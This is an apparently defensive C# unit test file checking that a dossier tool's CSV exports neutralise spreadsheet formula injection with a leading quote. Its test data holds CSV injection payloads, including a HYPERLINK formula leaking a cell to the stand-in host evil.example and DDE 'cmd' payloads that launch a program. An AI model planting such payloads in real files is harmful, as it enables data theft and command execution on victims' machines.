using System.Text;
using Dossier.Output.Exports;
using Dossier.Tests.Support;
using CsvHelper;
using Xunit;

namespace Dossier.Tests.Hostile;

/// <summary>
/// CSV injection: a contributor's name or summary that a spreadsheet would run as a formula is
/// written with a leading <c>'</c> in the CSV exports, and exactly as written in the JSON export.
/// </summary>
[Collection("Console")]
public class CsvInjectionTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("-")]
    [InlineData("-1-1")]
    [InlineData("-1e5x")]
    public void A_cell_a_spreadsheet_would_run_gets_a_leading_quote_in_the_csv_and_stays_in_the_json(string hostile)
    {
        var yaml = hostile.Replace("\\", "\\\\").Replace("\"", "\\\"");
        using var d = new TempDossier(
            Files.Person("jane-roe", "Jane Roe", $"aliases: [\"{yaml}\"]\nsummary: \"{yaml}\""),
            Files.Place("camp", "Camp", "coordinates: [-33.25, -70.5]"));
        var run = HostileCli.Build(d);
        Assert.True(run.ExitCode == 0, run.Describe());

        var person = Rows(d, "people.csv").Single();
        Assert.Equal("'" + hostile, person["aliases"]);
        Assert.Equal("'" + hostile, person["summary"]);
        Assert.Contains(JsonText(hostile), d.ReadOutput("/data/dossier.json"), StringComparison.Ordinal);

        // Numbers the build writes stay numbers.
        var place = Rows(d, "places.csv").Single();
        Assert.Equal("-33.25", place["latitude"]);
        Assert.Equal("-70.5", place["longitude"]);
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+1", "'+1")]
    [InlineData("@x", "'@x")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("-x", "'-x")]
    [InlineData("-5", "-5")]
    [InlineData("-5.25", "-5.25")]
    [InlineData("-1E-05", "-1E-05")]
    [InlineData("a=1", "a=1")]
    [InlineData("'=x", "'=x")]
    [InlineData(" =x", " =x")]
    [InlineData("", "")]
    public void Each_leading_character_is_neutralised_and_nothing_else(string cell, string written)
    {
        var bytes = CsvExport.Table([cell], [new CsvColumn<string>("value", v => v)]);
        using var reader = CsvReader.FromText(Encoding.UTF8.GetString(bytes), new CsvReaderOptions { Separator = ',', TrimWhitespace = false });
        Assert.True(reader.Read());
        Assert.Equal(written, reader.GetString(0));
    }

    private static List<Dictionary<string, string>> Rows(TempDossier d, string file)
    {
        using var reader = CsvReader.FromText(d.ReadOutput("/data/" + file), new CsvReaderOptions { Separator = ',', TrimWhitespace = false });
        var headers = reader.Headers.ToList();
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(headers.Select((h, i) => (h, i)).ToDictionary(c => c.h, c => reader.GetString(c.i)));
        }

        return rows;
    }

    private static string JsonText(string s) => System.Text.Json.JsonSerializer.Serialize(s, new System.Text.Json.JsonSerializerOptions
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    })[1..^1];
}
